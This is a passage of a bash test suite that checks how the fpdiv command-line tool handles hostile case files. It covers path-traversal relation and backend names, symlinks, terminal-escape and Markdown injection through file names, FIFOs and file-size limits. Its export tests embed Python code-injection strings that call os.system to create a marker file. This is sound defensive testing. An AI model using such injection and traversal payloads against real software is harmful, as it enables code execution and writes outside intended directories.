#!/usr/bin/env bash
# The hostile-corpus suite: a corpus arrives in pull requests, so every command that reads or
# writes one is fed what a hostile contributor or an unlucky user would give it (issue 31).
# Each input must get a clean exit status, a message naming the file, nothing written outside
# the corpus, and no valid case lost.
# Usage: FPDIV=build/fpdiv tests/cli/hostile.sh
set -u
FPDIV=${FPDIV:-build/fpdiv}
# The frameworks are frameworks.sh's to test: here a Python that is none lists them unavailable at
# once, where starting their servers (torch's takes seconds) would slow every `list`.
export FPDIV_PYTHON=/bin/false
tmp=$(mktemp -d)
trap 'chmod -R u+w "$tmp" 2>/dev/null; rm -rf "$tmp"' EXIT
. "$(dirname "$0")/lib.sh"
# The starter cases as committed: a user's campaigns add to corpus/, and no test may depend on that.
committed=$("$(dirname "$0")/../committed-corpus.sh" "$tmp/committed") || exit 2

# Two valid cases of fpdiv's own kernels (they reproduce on any CPU), of different signatures.
seq_case=corpus/addmm/edb12a71dff87b9e.json
blocked_case=corpus/addmm/658132f294c91e44.json
for f in $seq_case $blocked_case; do [ -f $f ] || { echo "hostile.sh: $f is missing (run from the repository root)"; exit 1; }; done
cases() { find "$1" -name '*.json' -type f 2>/dev/null | wc -l; }
# A case file edited by python: edited SRC DST 'python statements on d'
edited() { python3 - "$1" "$2" "$3" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
exec(sys.argv[3])
open(sys.argv[2], "w").write(json.dumps(d))
PY
}
# refused_edits SRC DIR CMD 'NAME|python statements on d|the message expected' ...: each edit of SRC
# as DIR/NAME.json (spaces as dashes), which `fpdiv CMD` refuses (exit 2) naming the file and the field
refused_edits() {
    local src=$1 dir=$2 cmd=$3 name change expected
    shift 3
    for edit in "$@"; do
        IFS='|' read -r name change expected <<<"$edit"
        edited "$src" "$dir/${name// /-}.json" "$change"
        bad "a case file with $name" "${name// /-}.json: $expected" $cmd "$dir/${name// /-}.json"
    done
}
# A directory's listing and its regular files' hashes (a FIFO would block): to see that nothing in it changed.
snapshot() { (cd "$1" && find . -type f -print0 | sort -z | xargs -0 -r sha1sum 2>/dev/null; find . | sort); }

# --- 1. names that become paths: a relation or backend of ../.., and writes only inside OUT ---
mkdir -p $tmp/t1/victim $tmp/t1/in
echo '{"precious": true}' >$tmp/t1/victim/settings.json
mkdir -p $tmp/t1/in/a $tmp/t1/in/b
# fpdiv before 0.1 wrote OUT/<relation>/<the file's own name>: this one would replace the victim
edited $seq_case $tmp/t1/in/a/settings.json 'd["check"]["relation"] = "../victim"'
edited $seq_case $tmp/t1/in/b/backend.json 'd["check"]["backends"] = ["../../victim/x"]'
before=$(snapshot $tmp/t1)
bad "merge refuses a relation that is a path" 'settings.json.*relation' merge $tmp/t1/out $tmp/t1/in/a/settings.json
bad "merge refuses a backend that is a path" 'backend.json.*backend' merge $tmp/t1/out $tmp/t1/in/b/backend.json
[ "$before" = "$(snapshot $tmp/t1)" ] && pass "nothing outside OUT was written" || fail "merge traversal" "$(find $tmp/t1 -newer $tmp/t1/in/b/backend.json)"
[ ! -e $tmp/t1/out ] && pass "a refused merge writes nothing, not even OUT" || fail "refused merge" "$(find $tmp/t1/out)"

# --- 2. symbolic links: writers never follow one out of the corpus; readers say what they skip ---
mkdir -p $tmp/t2/c $tmp/t2/elsewhere
ln -s $tmp/t2/elsewhere $tmp/t2/c/addmm
run "check --save into a symlinked relation directory" 2 $FPDIV check --relation addmm --backend seq --shape 1x1x2 --dtype f32 --bias --seed 11 --index 36 --save $tmp/t2/c &&
    expect "check --save names the link" "$err" "c/addmm: a symbolic link or a file where the corpus needs its own directory"
run "minimize -o into a symlinked relation directory" 2 $FPDIV minimize $seq_case -o $tmp/t2/c &&
    expect "minimize names the link" "$err" "c/addmm: a symbolic link"
run "merge into a symlinked relation directory" 2 $FPDIV merge $tmp/t2/c $seq_case &&
    expect "merge names the link" "$err" "c/addmm: a symbolic link"
run "fuzz into a symlinked relation directory" 2 $FPDIV fuzz --seed 11 --cases 40 --max-dim 16 --relations addmm --backends seq --corpus $tmp/t2/c &&
    expect "fuzz names the link before it starts" "$err" "c/addmm: a symbolic link"
[ "$(find $tmp/t2/elsewhere -type f | wc -l)" = 0 ] && pass "nothing was written through the link" || fail "symlink writes" "$(find $tmp/t2/elsewhere)"
mkdir -p $tmp/t2/r/addmm && cp $seq_case $tmp/t2/r/addmm/ && ln -s "$(pwd)/$blocked_case" $tmp/t2/r/addmm/linked.json
ln -s $tmp/t2/elsewhere $tmp/t2/r/slice-rows
run "replay reports symlinks in a corpus, and fails" 2 $FPDIV replay $tmp/t2/r &&
    expect "replay: the linked file is named" "$err" "linked.json: a symbolic link" &&
    expect "replay: the linked directory is named" "$err" "r/slice-rows: a symbolic link" &&
    expect "replay: the real case still runs, and the links count as malformed" "$out" "^1 cases: reproduced 1.*; 2 malformed"

# --- 3. terminal escapes and Markdown from case files and file names ---
mkdir -p $tmp/t3/c/addmm
edited $seq_case $tmp/t3/evil.json 'd["environment"]["cpu"]["model"] = "\u001b]0;pwned\u0007EPYC\u009b31m"'
esc=$(printf '\033')
run "show a case whose CPU model carries escape sequences" 0 $FPDIV show $tmp/t3/evil.json &&
    { grep -q "$esc" <<<"$out" && fail "show escapes" "a raw ESC reached the terminal" || pass "show prints no raw escape sequence"; } &&
    expect "show shows them escaped" "$out" 'cpu +\\x1b\]0;pwned\\x07EPYC\\xc2\\x9b31m'
echo '{"schema": 2,' >"$tmp/t3/$(printf 'bad\033[2J').json"
run "a file name with an escape sequence, in an error" 2 $FPDIV show "$tmp/t3/$(printf 'bad\033[2J').json" &&
    expect "the error names it escaped" "$err" 'bad\\x1b\[2J.json' &&
    { grep -q "$esc" <<<"$err" && fail "error escapes" "a raw ESC reached stderr" || pass "errors print no raw escape sequence"; }
cp $seq_case "$tmp/t3/c/addmm/$(printf 'a\033[2Jb').json"
run "replay a file name with an escape sequence" 0 $FPDIV replay $tmp/t3/c &&
    { grep -q "$esc" <<<"$out" && fail "replay escapes" "a raw ESC reached the terminal" || expect "replay shows it escaped" "$out" 'a\\x1b\[2Jb.json'; }
mkdir -p $tmp/t3/u8/addmm && cp $seq_case "$tmp/t3/u8/addmm/$(printf 'x\377').json"
run "replay --json a file name that is not UTF-8" 0 $FPDIV replay --json $tmp/t3/u8 &&
    expect "its line is there, the name escaped" "$out" '^\{"type":"replay","file":"[^"]*/x\\\\xff.json","class":"reproduced"'
mkdir -p $tmp/t3/md/addmm
edited $seq_case "$tmp/t3/md/addmm/x|y\`z" 'd["outcome"]["hash_a"] = "0000000000000000"'
mv "$tmp/t3/md/addmm/x|y\`z" "$tmp/t3/md/addmm/$(printf 'x|y`z\n### injected')".json
GITHUB_ACTIONS=true GITHUB_STEP_SUMMARY=$tmp/t3/summary.md $FPDIV replay $tmp/t3/md >$tmp/t3/gh.out 2>&1
summary=$(cat $tmp/t3/summary.md 2>/dev/null)
expect "the step summary has its table" "$summary" '^\| test \| checks \| failures \| first failure \|'
if grep -q '^### injected' <<<"$summary"; then fail "summary injection" "a file name started a heading: $summary"
else pass "a file name cannot start a heading in the step summary"; fi
row=$(grep -F 'fpdiv.replay.addmm' <<<"$summary")
[ "$(tr -cd '|' <<<"${row//\\|/}" | wc -c)" = 5 ] && pass "a | in a file name does not add a column" || fail "summary columns" "$row"

# --- 4. merge validates what it merges; an invalid case never replaces a valid one ---
mkdir -p $tmp/t4/out $tmp/t4/in
$FPDIV merge $tmp/t4/out $seq_case >/dev/null 2>&1
good=$(find $tmp/t4/out -name '*.json')
python3 -c '
import json, sys
d = json.load(open(sys.argv[1]))
partial = {k: d[k] for k in ("schema", "check", "outcome")}
partial["check"] = {k: d["check"][k] for k in ("relation", "backends")}
partial["check"]["case"] = {"dtype": d["check"]["case"]["dtype"], "batch": 1, "m": 1, "n": 1, "k": 1}  # the smallest
partial["count"] = 99
json.dump(partial, open(sys.argv[2], "w"))' $seq_case $tmp/t4/in/partial.json
run "merge refuses a partial case file of the same signature" 2 $FPDIV merge $tmp/t4/out $tmp/t4/in/partial.json &&
    expect "merge names the partial case file" "$err" "partial.json"
[ -n "$good" ] && cmp -s "$good" "$(find $tmp/t4/out -name '*.json')" && pass "the valid case is still there, unchanged" ||
    fail "merge lost a case" "$(find $tmp/t4/out)"
long=$(printf 'n%.0s' $(seq 1 250))
cp $blocked_case $tmp/t4/in/$long.json 2>/dev/null || cp $blocked_case $tmp/t4/in/${long:0:240}.json
run "merge a case with a long file name" 0 $FPDIV merge $tmp/t4/out $tmp/t4/in/n*.json &&
    run "replay sees both cases" 0 $FPDIV replay $tmp/t4/out && expect "both replay" "$out" '^2 cases: reproduced 2'
[ -z "$(find $tmp/t4/out -type f ! -name '*.json')" ] && pass "merge writes only NAME.json files" || fail "merge names" "$(find $tmp/t4/out -type f)"
run "a directory given as a case file" 2 $FPDIV show $tmp/t4/out &&
    expect "says it is a directory" "$err" "t4/out: a directory, not a case file"

# --- 5, 6. a file size limit: saves fail, are counted, the run fails, no temporary is left ---
# limited FILE BLOCKS CMD...: CMD under `ulimit -f BLOCKS` (of 1024 bytes); its output, both
# streams, goes through a pipe (which the limit does not cut) to FILE; $status is CMD's.
limited() {
    local file=$1 blocks=$2
    shift 2
    (ulimit -f $blocks; exec "$@" 2>&1) | cat >$file
    status=${PIPESTATUS[0]}
}
mkdir -p $tmp/t5
limited $tmp/t5/out 1 $FPDIV fuzz --seed 11 --cases 120 --max-dim 24 --relations addmm --backends seq,blocked --corpus $tmp/t5/c
[ $status = 3 ] && pass "fuzz under a file size limit exits 3" || fail "fuzz ulimit exit" "exit $status; $(tail -3 $tmp/t5/out)"
expect "each failed save is named" "$(cat $tmp/t5/out)" "cannot save a finding: cannot write .*t5/c/addmm/[0-9a-f]{16}.json: File too large"
expect "the summary says findings were not saved" "$(cat $tmp/t5/out)" "SOME FINDINGS COULD NOT BE SAVED"
[ -z "$(find $tmp/t5/c -name '.tmp-*')" ] && pass "no temporary is left in the corpus" || fail "temporaries left" "$(find $tmp/t5/c -name '.tmp-*')"
limited $tmp/t5/json 1 $FPDIV fuzz --seed 11 --cases 120 --max-dim 24 --relations addmm --backends seq,blocked --corpus $tmp/t5/c --json
saved_json=$(grep '"type":"summary"' $tmp/t5/json)
expect "the JSON summary counts the failures" "$saved_json" '"saved":0,"save_failures":[1-9]'
# stdout and stderr in one pipe: each message lands between JSON lines, never inside one
expect "every line is a JSON line or a message, whole" "$(python3 -c '
import json, sys
cut = 0
for line in open(sys.argv[1]):
    if not line.startswith("fpdiv fuzz: "):
        try:
            json.loads(line)
        except ValueError:
            cut += 1
print("cut lines: %d" % cut)' $tmp/t5/json)" '^cut lines: 0$'
# a read-only corpus is refused before the run; a corpus whose committed .claims cannot be written
# fails every claim, and each is counted (a finding is never dropped in silence). Root writes
# anywhere, so as root these run as nobody, in a directory nobody can read but not write.
as_user=()
if [ "$(id -u)" = 0 ] && command -v setpriv >/dev/null &&
    setpriv --reuid=65534 --regid=65534 --clear-groups $FPDIV --version >/dev/null 2>&1; then
    as_user=(setpriv --reuid=65534 --regid=65534 --clear-groups)
    ro=$(mktemp -d) && chmod 755 "$ro"
else
    ro=$tmp/t5/ro-tests && mkdir -p "$ro"
fi
if [ "$(id -u)" != 0 ] || [ ${#as_user[@]} -gt 0 ]; then
    mkdir -p "$ro/c" "$ro/w/.claims" && chmod 555 "$ro/c" "$ro/w/.claims"
    [ ${#as_user[@]} -gt 0 ] && chown 65534 "$ro/w"
    run "fuzz into a read-only corpus: refused before the run" 2 "${as_user[@]}" $FPDIV fuzz --seed 11 --cases 60 \
        --max-dim 16 --relations addmm --backends seq --corpus $ro/c &&
        expect "it names the corpus" "$err" "--corpus $ro/c: cannot write into it"
    run "fuzz where the committed .claims cannot be written fails the run" 3 "${as_user[@]}" $FPDIV fuzz --seed 11 \
        --cases 60 --max-dim 16 --relations addmm --backends seq --corpus $ro/w &&
        expect "each failed claim is named" "$err" "cannot claim .*/\.claims/[0-9a-f]{16}-0: Permission denied" &&
        expect "and counted" "$err" "[0-9]+ findings? could not be saved"
    chmod -R 755 "$ro"
    [[ $ro != $tmp/* ]] && rm -rf "$ro"
else
    echo "SKIP a read-only corpus: root writes anywhere, and no setpriv(1) here to run as another user"
fi

# --- 7. export checks every write ---
$FPDIV check --relation slice-rows --backend seq --shape 48x48x48 --dtype f32 --bias --seed 3 --save $tmp/t7/c >/dev/null 2>&1
big=$(find $tmp/t7/c -name '*.json' | head -1)
if [ -n "$big" ]; then
    limited $tmp/t7/out 4 $FPDIV export "$big" --to numpy -o $tmp/t7/x
    [ $status = 2 ] && pass "export under a file size limit exits 2" || fail "export ulimit" "exit $status"
    expect "export names the truncated file" "$(cat $tmp/t7/out)" "cannot write .*t7/x/(A|B).npy: File too large"
else
    fail "export ulimit" "check --save wrote no case: $(cat $tmp/t7/out 2>/dev/null)"
fi

# --- 8. a long corpus path: every saved case is reported ---
deep=$tmp/t8/$(printf 'd%.0s' $(seq 1 200))/$(printf 'e%.0s' $(seq 1 200))
run "fuzz into a corpus with a 440-character path" 0 $FPDIV fuzz --seed 11 --cases 120 --max-dim 24 --relations addmm --backends seq,blocked --corpus $deep --json &&
    [ "$(grep -c '"type":"saved"' <<<"$out")" = "$(cases $deep)" ] && [ "$(cases $deep)" -gt 0 ] &&
    pass "each of the $(cases $deep) saved cases is reported" || fail "long path saves" "$(grep -c '"type":"saved"' <<<"$out") lines, $(cases $deep) files"

# --- 9. temporaries of writers that died are removed; a live writer's are left ---
# a writer holds its temporary's lock until it is gone; a process id in the name proves nothing
mkdir -p $tmp/t9/c/addmm && cp $seq_case $tmp/t9/c/addmm/
: >$tmp/t9/c/addmm/.tmp-999999999-0-00000000
: >$tmp/t9/c/addmm/.tmp-$$-1-00000000 # a live process's id, but nobody's lock: the id was reused
run "replay over a corpus with temporaries" 0 flock $tmp/t9/c/addmm/.tmp-$$-0-00000000 $FPDIV replay $tmp/t9/c &&
    expect "temporaries are no cases" "$out" '^1 cases: reproduced 1'
[ ! -e $tmp/t9/c/addmm/.tmp-999999999-0-00000000 ] && pass "a dead writer's temporary is removed" || fail "stale temporary" "still there"
[ ! -e $tmp/t9/c/addmm/.tmp-$$-1-00000000 ] && pass "a temporary nobody locks is removed, whatever id it names" || fail "unlocked temporary" "still there"
[ -e $tmp/t9/c/addmm/.tmp-$$-0-00000000 ] && pass "a live writer's temporary is left alone" || fail "live temporary" "removed"

# fuzzers killed at random moments: whatever they leave, the next writer removes, and what is
# there is whole
killed=0
for i in 1 2 3 4 5 6 7 8 9 10; do # each would run for a second or more: SIGKILL after 10 to 90 ms
    status=$(exec 2>/dev/null; # not bash's "Killed"
             timeout -s KILL 0.0$((RANDOM % 9 + 1)) $FPDIV fuzz --seed $i --cases 40000 --max-dim 48 --relations addmm \
                 --backends seq,blocked,splitk --corpus $tmp/t9/k >/dev/null; echo $?)
    [ $status = 137 ] && killed=$((killed + 1))
done
# the workers, orphaned, are gone before the replay (a live one's temporary is rightly kept)
for i in $(seq 1 50); do
    pkill -9 -f "corpus $tmp/t9/k" 2>/dev/null || break
    sleep 0.1
done
[ $killed -ge 8 ] && pass "$killed of the 10 fuzzers were killed mid-run" || fail "killed fuzzers" "only $killed were killed"
run "replay after ten killed fuzzers" 0 $FPDIV replay $tmp/t9/k && expect "every case left is whole" "$out" "^[0-9]+ cases: reproduced [0-9]+, changed 0, fixed 0, worse 0, elsewhere 0, skipped 0$"
[ -z "$(find $tmp/t9/k -name '.tmp-*')" ] && pass "no temporary outlives the replay" || fail "killed fuzzers' temporaries" "$(find $tmp/t9/k -name '.tmp-*')"

# --- 10, 11. FIFOs and hanging backends: nothing waits forever ---
mkdir -p $tmp/t10/c/addmm && cp $seq_case $tmp/t10/c/addmm/ && mkfifo $tmp/t10/c/addmm/fifo.json
for cmd in "show" "minimize" "export --to numpy -o $tmp/t10/x" "bisect --dim k" "explain"; do
    read -ra words <<<"$cmd"
    run "$cmd on a FIFO" 2 timeout -k 5 20 $FPDIV ${words[0]} $tmp/t10/c/addmm/fifo.json "${words[@]:1}" &&
        expect "$cmd: names the FIFO" "$err" "fifo.json: (a FIFO, )?not a regular file"
done
run "replay a corpus with a FIFO" 2 timeout -k 5 20 $FPDIV replay $tmp/t10/c && expect "replay names the FIFO" "$err" "fifo.json: a FIFO"
run "merge a corpus with a FIFO" 2 timeout -k 5 20 $FPDIV merge $tmp/t10/out $tmp/t10/c && expect "merge names the FIFO" "$err" "fifo.json: a FIFO"
run "fuzz into a corpus with a FIFO" 2 timeout -k 5 20 $FPDIV fuzz --cases 5 --corpus $tmp/t10/c && expect "fuzz names the FIFO" "$err" "fifo.json: a FIFO"
plugin=$(dirname "$FPDIV")/plugins/crashy.so
if [ -f "$plugin" ]; then
    run "check a hanging backend, saved" 1 timeout -k 5 60 $FPDIV --plugin $plugin check --relation slice-rows --backend crashy --shape 2x4x17 --timeout 1 --save $tmp/t11
    hang=$(find $tmp/t11 -name '*.json' | head -1)
    run "show --timeout bounds a hanging re-run" 0 timeout -k 5 60 $FPDIV --plugin $plugin show --timeout 1 "$hang" &&
        expect "show says it timed out" "$out" '^now: error: timed out after 1 s'
    start=$(date +%s)
    run "fuzz --time with a hanging check and --timeout 0" 1 timeout -k 5 120 $FPDIV --plugin $plugin fuzz --backends crashy --relations slice-rows --dtypes f32 --max-dim 18 --timeout 0 --time 1 --no-corpus --jobs 1 --seed 3 &&
        expect "the unfinished check is reported" "$err" "1 check still running 10 s after --time ran out was stopped unfinished"
    took=$(($(date +%s) - start))
    [ $took -lt 60 ] && pass "--time holds with --timeout 0 (${took} s)" || fail "--time with a hang" "${took} s"
else
    fail "hanging backends" "$plugin not built (make test builds it)"
fi

# --- 12. bisect: skipping is bounded, an untestable end is reported ---
run "bisect toward a shape far over the budget" 1 timeout -k 5 120 $FPDIV bisect --good 2x3x4 --bad 2x3x2147483647 --relation addmm --backend seq --max-mem 64M &&
    { [ "$(wc -l <<<"$out")" -lt 200 ] && pass "its probes are bounded ($(wc -l <<<"$out") lines)" || fail "bisect probes" "$(wc -l <<<"$out") lines"; } &&
    expect "it bisects from the largest testable k" "$out" '^no change: k=4 and k=[0-9]+ both give'
bad "an end that cannot be tested, and nothing between" 'm=1 cannot be tested \(slice 2:1 is outside m = 1\): m=3 is the only value of the range that can' \
    bisect --good 3x3x4 --bad 1x3x4 --relation slice-rows --backend seq --slice 2:1

# --- every command that reads a case file, on every hostile file: status 2, the file named, nothing
# written but where asked. (A symbolic link named on the command line is followed, as by any
# Unix tool: it is one inside a corpus that is refused, above.) ---
mkdir -p $tmp/tm/files $tmp/tm/work
edited $seq_case $tmp/tm/files/relation-path.json 'd["check"]["relation"] = "../victim"'
edited $seq_case $tmp/tm/files/backend-path.json 'd["check"]["backends"] = ["../../victim/x"]'
edited $seq_case $tmp/tm/files/kernel-set-path.json 'd["check"]["backends"] = ["openblas@../../x"]'
cp $tmp/t4/in/partial.json $tmp/tm/files/partial.json
mkfifo $tmp/tm/files/fifo.json
mkdir $tmp/tm/files/directory.json # replay and merge take directories: for them it is an empty corpus
printf '{"schema": 2, "check": {"relation": "\033]0;x\007"}}' >$tmp/tm/files/escape.json
before=$(snapshot $tmp/tm/files)
for file in $tmp/tm/files/*.json; do
    name=$(basename $file)
    for cmd in "show" "replay" "minimize -o $tmp/tm/work/min" "export --to numpy -o $tmp/tm/work/x" "bisect --dim k" \
               "explain" "merge-into"; do
        read -ra words <<<"$cmd"
        [ $name = directory.json ] && [[ ${words[0]} = replay || ${words[0]} = merge-into ]] && continue
        if [ "${words[0]}" = merge-into ]; then args=(merge $tmp/tm/work/merged "$file"); else args=(${words[0]} "$file" "${words[@]:1}"); fi
        run "${words[0]} $name" 2 timeout -k 5 20 $FPDIV "${args[@]}" &&
            { grep -qF "$name" <<<"$err" && ! grep -q "$esc" <<<"$err$out" && pass "${words[0]} $name: named, escaped" ||
                fail "${words[0]} $name" "stderr: ${err:0:300}"; }
    done
done
[ "$before" = "$(snapshot $tmp/tm/files)" ] && pass "the hostile files are as they were" || fail "hostile files" "changed"
[ "$(find $tmp/tm/work -type f | wc -l)" = 0 ] && pass "nothing was written for them" || fail "hostile writes" "$(find $tmp/tm/work -type f)"
[ ! -e $tmp/tm/victim ] && [ ! -e $tmp/victim ] && pass "no path escaped" || fail "hostile paths" "$(ls $tmp/tm)"

# --- 13, 14. empty directories ---
mkdir -p $tmp/t13/e1 $tmp/t13/e2
run "replay two empty directories" 0 $FPDIV replay $tmp/t13/e1 $tmp/t13/e2 && expect "0 cases" "$out" '^0 cases'
run "merge two empty directories" 0 $FPDIV merge $tmp/t13/out $tmp/t13/e1 $tmp/t13/e2 && expect "0 signatures" "$out" '^0 signatures from 0 files'
run "fuzz into an empty directory" 0 $FPDIV fuzz --seed 1 --cases 5 --max-dim 8 --relations slice-rows --backends seq --corpus $tmp/t13/e1

# --- 16. fuzzers sharing a corpus keep to --max-per-signature between them ---
# two workers each, forked from one view of the corpus: they race for slots within a process too
for i in 1 2 3 4; do
    timeout -k 5 120 $FPDIV fuzz --seed $i --cases 600 --max-dim 24 --relations addmm --backends seq,blocked --jobs 2 \
        --max-per-signature 2 --corpus $tmp/t16 >/dev/null 2>&1 &
done
wait
most=$(python3 - $tmp/t16 <<'PY'
import collections, json, pathlib, sys
n = collections.Counter()
for p in pathlib.Path(sys.argv[1]).rglob("*.json"):
    f = json.loads(p.read_text())
    n[(f["check"]["relation"], tuple(f["check"]["backends"]), f["check"]["case"]["dtype"], f["outcome"]["verdict"])] += 1
print(max(n.values()) if n else 0)
PY
)
[ "$most" = 2 ] && pass "four fuzzers saved at most 2 cases of a signature" || fail "concurrent claims" "a signature has $most cases"
[ -f $tmp/t16/.claims/.gitignore ] && pass "the claims are ignored by git" || fail "claims .gitignore" "$(ls -a $tmp/t16/.claims)"

# --- 17. options that would do nothing, or something else than they say ---
bad "--shard 0/-1" "--shard '0/-1': expected I/N" fuzz --no-corpus --shard 0/-1
bad "--cases 0" "--cases must be at least 1" fuzz --no-corpus --cases 0
bad "--max-per-signature 0" "--max-per-signature must be at least 1" fuzz --no-corpus --max-per-signature 0
bad "--time ' 5'" "--time ' 5': expected a number" fuzz --no-corpus --time ' 5'
bad "--time inf" "--time 'inf': expected a number" fuzz --no-corpus --time inf

# --- 18. an unreadable directory is reported, not skipped ---
if [ "$(id -u)" != 0 ]; then
    mkdir -p $tmp/t18u/c/addmm $tmp/t18u/c/vendor && cp $seq_case $tmp/t18u/c/addmm/ && chmod 000 $tmp/t18u/c/vendor
    run "replay a corpus with an unreadable directory" 2 $FPDIV replay $tmp/t18u/c && expect "it is named" "$err" "c/vendor"
    chmod 755 $tmp/t18u/c/vendor
else
    echo "SKIP an unreadable directory: root reads any"
fi

# --- 18. a failed write is not counted as written ---
mkdir -p $tmp/t18
limited $tmp/t18/out.txt 1 $FPDIV merge $tmp/t18/out $blocked_case
[ $status != 0 ] && pass "merge under a file size limit fails ($status)" || fail "merge ulimit" "exit 0"
expect "merge says what failed, and that nothing was written" "$(cat $tmp/t18/out.txt)" "cannot write .*t18/out/addmm/.*File too large \(0 written before it\)"

# --- 20. make install puts the plugin where the installed fpdiv finds it ---
if [ -f "$(dirname "$FPDIV")/fpdiv-cuda.so" ] && [ -f Makefile ]; then
    make -s install DESTDIR=$tmp/t20 PREFIX=/usr BUILD="$(dirname "$FPDIV")" >$tmp/t20.log 2>&1 ||
        fail "make install" "$(tail -3 $tmp/t20.log)"
    [ -f $tmp/t20/usr/lib/fpdiv/fpdiv-cuda.so ] && pass "the CUDA plugin is installed in lib/fpdiv" || fail "install" "$(find $tmp/t20 -type f)"
    run "the installed fpdiv lists the plugin's backends" 0 $tmp/t20/usr/bin/fpdiv list && expect "cuda-seq is listed" "$out" '^  cuda-seq '
else
    echo "SKIP make install: no CUDA plugin was built here"
fi

# ---------------------------------------------------------------------------------------------------
# Round 2 (issue 50): untrusted text never becomes code, a finding is never dropped in silence,
# every library's kernel set is pinned and compared, merge is idempotent, big files are refused
# quickly, one signal is one request, stored values are exact and consistent, options and
# variables are checked.

# --- 21. export: nothing from a case file reaches the script but inside an escaped literal ---
numpy_python=$(for p in .venv/bin/python python3 /usr/bin/python3; do $p -c 'import numpy' 2>/dev/null && echo $p && break; done)
mkdir -p $tmp/t21
$FPDIV check --relation slice-rows --backend seq --shape 4x8x16 --dtype f32 --save $tmp/t21/c >/dev/null 2>&1
plain=$(find $tmp/t21/c -name '*.json' | head -1)
payload="x'+str(__import__('os').system('touch $tmp/t21/PWNED'))+'"
crlf=$'\r\nimport os; os.system("touch '"$tmp"'/t21/PWNED") #'
edited "$plain" $tmp/t21/quote-backend.json "d['check']['backends'] = [$(python3 -c 'import json,sys; print(json.dumps(sys.argv[1]))' "$payload")]"
edited "$plain" $tmp/t21/cr-backend.json "d['check']['backends'] = [$(python3 -c 'import json,sys; print(json.dumps(sys.argv[1]))' "seq$crlf")]"
for f in quote-backend cr-backend; do
    bad "export refuses a backend name fpdiv does not write ($f)" "$f.json: check.backends: .* is not a backend name fpdiv writes" \
        export $tmp/t21/$f.json --to numpy -o $tmp/t21/x-$f
    [ ! -e $tmp/t21/x-$f ] && pass "export wrote nothing for $f" || fail "export $f" "$(ls $tmp/t21/x-$f)"
done
# the same attacks through every string of the environment: exported, run, and nothing runs
edited "$plain" $tmp/t21/env.json "
p = $(python3 -c 'import json,sys; print(json.dumps(sys.argv[1] + sys.argv[2] + chr(0x202e) + chr(0x85) + chr(0x2028)))' "$payload" "$crlf")
d['environment']['cpu']['model'] = p
d['environment']['fpdiv'] = p
d['environment']['backends']['seq']['implementation'] = p"
run "export a case whose environment carries code" 0 $FPDIV export $tmp/t21/env.json --to numpy -o $tmp/t21/x-env
if [ -n "$numpy_python" ]; then
    run "the exported script runs" 0 $numpy_python $tmp/t21/x-env/repro_numpy.py &&
        expect "and reports the recorded environment as text" "$out" "^fpdiv ran seq: "
else
    fail "exported script" "no Python with NumPy here"
fi
[ ! -e $tmp/t21/PWNED ] && pass "no string of the case file ran as code" || fail "export injection" "PWNED was created"
python3 - $tmp/t21/x-env/repro_numpy.py <<'PY' && pass "the script's comments hold no text of the case file" || fail "export comments" "data in a comment"
import sys, tokenize
with open(sys.argv[1], "rb") as f:
    comments = [t.string for t in tokenize.tokenize(f.readline) if t.type == tokenize.COMMENT]
sys.exit(1 if any("PWNED" in c or "system" in c for c in comments) else 0)
PY

# --- 22. a slot that cannot be claimed is a failed save, never a finding dropped in silence ---
mkdir -p $tmp/t22
fuzz22=(fuzz --seed 11 --cases 120 --max-dim 24 --relations addmm --backends seq,blocked)
$FPDIV "${fuzz22[@]}" --corpus $tmp/t22/first >/dev/null 2>&1
claims=$(ls $tmp/t22/first/.claims | grep -v gitignore)
[ -n "$claims" ] && pass "a campaign claims slots ($(wc -w <<<"$claims"))" || fail "claims" "none in $tmp/t22/first/.claims"
for kind in directory link; do
    c=$tmp/t22/$kind
    mkdir -p $c/.claims
    for slot in $claims; do # the slots' names are a hash of the signature: a pull request can commit them
        if [ $kind = directory ]; then mkdir $c/.claims/$slot; else ln -s /nonexistent $c/.claims/$slot; fi
    done
    run "fuzz where a committed claim is a $kind fails the run" 3 $FPDIV "${fuzz22[@]}" --corpus $c &&
        expect "each failed claim is named ($kind)" "$err" "cannot claim .*/\.claims/[0-9a-f]{16}-0: (Is a directory|a symbolic link)" &&
        expect "the summary says findings were not saved ($kind)" "$out" "SOME FINDINGS COULD NOT BE SAVED"
done

# --- 23. every library's kernel set: pinned by --core, named, recorded, compared on replay ---
run "check --core Haswell pins OpenBLAS, BLIS and oneMKL alike" 0 $FPDIV check --relation vendor --backend openblas,blis \
    --core Haswell --shape 4x8x16 --fail-on never &&
    expect "the rerun names both pinned sets" "$out" "--backend openblas@Haswell,blis@haswell "
mkl_runs=$($FPDIV env --json 2>/dev/null | python3 -c '
import json, sys
print(" ".join(json.load(sys.stdin)["backends"].get("mkl", {}).get("kernel_sets", {}).get("runs", [])))' 2>/dev/null)
if [[ " $mkl_runs " == *" AVX2 "* ]]; then
    run "and oneMKL to its AVX2 code path, by the class" 0 $FPDIV check --relation vendor --backend blis,mkl --core avx2 \
        --shape 4x8x16 --fail-on never && expect "the rerun names mkl@AVX2" "$out" "--backend blis@haswell,mkl@AVX2 "
else
    echo "SKIP --core on oneMKL: mkl is unavailable here, or cannot pin its AVX2 code path on this CPU (fpdiv env says which)"
fi
run "blis names its kernel set" 0 $FPDIV check --relation slice-rows --backend blis --shape 4x8x16 --save $tmp/t23/c --fail-on never &&
    expect "blis@SET" "$out" "^check slice-rows on blis@[a-z0-9]+:"
blis_case=$(find $tmp/t23/c -name '*.json' | head -1)
edited "$blis_case" $tmp/t23/unrunnable.json "
d['check']['backends'] = ['blis@bulldozer']
d['environment']['backends'] = {'blis@bulldozer': dict(list(d['environment']['backends'].values())[0], kernel_set='bulldozer')}"
run "a BLIS case recorded on a set this CPU cannot run (125: git bisect's cannot test)" 125 $FPDIV replay $tmp/t23/unrunnable.json &&
    expect "replays elsewhere, saying why" "$out" "^elsewhere .*recorded on blis@bulldozer"
edited "$blis_case" $tmp/t23/plain.json "
d['check']['backends'] = ['blis']
d['environment']['backends'] = {'blis': dict(list(d['environment']['backends'].values())[0], kernel_set='bulldozer')}"
run "an unpinned BLIS name reads as the set its record names" 125 $FPDIV replay $tmp/t23/plain.json &&
    expect "replays elsewhere too" "$out" "^elsewhere .*blis@bulldozer"
# a set other than the recorded one: generic, or haswell where BLIS runs generic itself (a CPU newer than it)
edited "$blis_case" $tmp/t23/other.json "
recorded = list(d['environment']['backends'])[0]
d['check']['backends'] = ['blis@haswell' if recorded == 'blis@generic' else 'blis@generic']"
bad "a recorded set that is not the check's" "environment.backends.blis@[a-z0-9]+: a record of a backend the check does not run" \
